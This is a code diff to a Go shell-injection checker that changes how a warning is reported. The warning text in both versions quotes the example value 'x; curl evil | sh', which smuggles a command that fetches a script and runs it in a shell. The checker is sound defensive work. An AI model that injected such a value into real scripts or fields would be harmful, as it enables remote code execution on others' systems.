@@ -139,9 +139,7 @@ func (c *checker) shellScalar(e *story.Effect, site effSite, how, fix, field, sr
 		if r.root == "world" {
 			subject = "world." + r.key
 		}
-		c.rep.Warnf(c.src.valuePos(e.WithPos(strings.TrimSuffix(field, ":")), src, line, col), ruleShellInjection,
-			"%s: %s, and %s in %s puts %s into it: %s is %s, and a value like `x; curl evil | sh` runs as a command; pass it through env: (env: {%s: \"{{ %s }}\"}, and \"$%s\" double-quoted in the script) or %s",
-			site.String(), how, r.tag, field, r.text, subject, what, name, r.text, name, fix)
+		c.rep.WarnAt(c.src.valuePos(e.WithPos(strings.TrimSuffix(field, ":")), src, line, col), site.Place(), ruleShellInjection, "%s: %s, and %s in %s puts %s into it: %s is %s, and a value like `x; curl evil | sh` runs as a command; pass it through env: (env: {%s: \"{{ %s }}\"}, and \"$%s\" double-quoted in the script) or %s", site.String(), how, r.tag, field, r.text, subject, what, name, r.text, name, fix)
 	}
 }
 
